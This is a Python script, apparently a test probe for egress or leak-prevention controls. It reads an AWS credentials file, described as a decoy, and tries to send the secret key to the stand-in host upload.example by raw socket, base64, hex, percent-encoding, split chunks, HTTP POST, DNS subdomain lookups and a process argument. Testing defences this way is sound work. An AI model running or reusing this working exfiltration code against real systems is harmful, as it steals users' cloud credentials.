# Reads a decoy and sends it away in many forms: STEP NAME RESULT for each.
import base64, os, socket, subprocess, time, urllib.parse
decoy = open(os.path.expanduser("~/.aws/credentials")).read()
secret = decoy.split("aws_secret_access_key = ")[1].split()[0]
def step(name):
    def run(f):
        try: result = f()
        except BaseException as e: result = type(e).__name__ + " " + str(getattr(e, "errno", ""))
        print("STEP", name, result, flush=True)
    return run
def send(name, *parts, pause=0):
    with socket.create_connection(("upload.example", 9000), timeout=20) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # A first byte that no TLS or HTTP begins with: nothing waits for more.
        s.sendall(b"\0" + name.encode() + b"\n")
        for part in parts:
            time.sleep(pause)
            s.sendall(part)
        s.shutdown(socket.SHUT_WR)
        return s.recv(10)
def pieces(data, size): return [data[at:at + size] for at in range(0, len(data), size)]
@step("innocent")
def _(): return send("innocent", b"nothing of yours" * 100)
@step("plain")
def _(): return send("plain", decoy.encode())
@step("base64")
def _(): return send("base64", base64.encodebytes(decoy.encode()))
@step("hex")
def _(): return send("hex", decoy.encode().hex().upper().encode())
@step("percent")
def _(): return send("percent", "".join(f"%{byte:02x}" for byte in secret.encode()).encode())
@step("split")
def _(): return send("split", *pieces(secret.encode(), 7), pause=0.05)
@step("http")
def _():
    body = b"key=" + urllib.parse.quote(secret).encode()
    with socket.create_connection(("upload.example", 9000), timeout=20) as s:
        s.sendall(b"POST /http HTTP/1.1\r\nHost: upload.example:9000\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        s.shutdown(socket.SHUT_WR)
        return s.recv(10)
@step("name")
def _(): return socket.getaddrinfo(secret[:30] + ".upload.example", 443)
@step("name-hex")
def _(): return socket.getaddrinfo(".".join(pieces(secret.encode().hex(), 40)) + ".upload.example", 443)
@step("name-innocent")
def _(): return len(socket.getaddrinfo("static.upload.example", 443, socket.AF_INET, socket.SOCK_STREAM))
@step("argument")
def _(): return subprocess.run(["/usr/bin/printf", "", "--key=" + secret]).returncode
@step("done")
def _(): return "OK"
